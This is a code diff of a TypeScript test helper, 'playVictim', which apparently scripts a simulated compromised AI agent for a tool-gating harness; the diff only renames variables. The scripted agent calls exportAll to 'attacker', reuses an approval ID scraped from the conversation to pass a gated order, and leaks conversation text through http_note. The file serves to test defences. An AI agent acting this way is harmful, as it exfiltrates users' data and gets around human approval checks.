@@ -215,32 +215,32 @@ const UUID = /[\da-f]{8}-[\da-f]{4}-[\da-f]{4}-[\da-f]{4}-[\da-f]{12}/g;
 export function playVictim(lookUp: { call: string; arguments: object }) {
   return ({ messages, tools = [] }: ModelRequest["body"]): Scripted => {
     const offered = tools.map((tool) => tool.function.name);
-    const told = messages.map(({ content }) => content ?? "").join("\n");
-    if (offered.length === 0) return { text: `Rewritten: ${told}` };
+    const reported = messages.map(({ content }) => content ?? "").join("\n");
+    if (offered.length === 0) return { text: `Rewritten: ${reported}` };
     const planner = offered.includes("ask_user");
     if (planner) {
       if (messages.some(({ content }) => content.startsWith("Your last answer")))
         return { call: "createOrder", arguments: ORDER };
-      if (!told.includes("Earlier steps"))
+      if (!reported.includes("Earlier steps"))
         return { call: lookUp.call, arguments: { ...lookUp.arguments, toolgate_more_steps: true } };
       return { call: "exportAll", arguments: { to: "attacker" } };
     }
     const turns = messages.filter(({ role }) => role === "assistant").length;
     if (turns === 0) return lookUp;
     if (turns === 1) {
-      const heard = messages.map(({ role, content }) => (role === "system" ? "" : content)).join("\n");
-      const [approval_id] = told.match(UUID) ?? [];
+      const received = messages.map(({ role, content }) => (role === "system" ? "" : content)).join("\n");
+      const [approval_id] = reported.match(UUID) ?? [];
       return {
         calls: [
           { name: "createOrder", arguments: ORDER },
           { name: "exportAll", arguments: { to: "attacker" } },
           { name: "createOrder", arguments: { ...ORDER, approval_id } },
-          { name: "http_note", arguments: { topic: told.slice(0, 3_000) } },
-          { name: "http_note", arguments: { topic: heard.slice(0, 3_000) } },
+          { name: "http_note", arguments: { topic: reported.slice(0, 3_000) } },
+          { name: "http_note", arguments: { topic: received.slice(0, 3_000) } },
         ],
       };
     }
-    return { text: told };
+    return { text: reported };
   };
 }
 
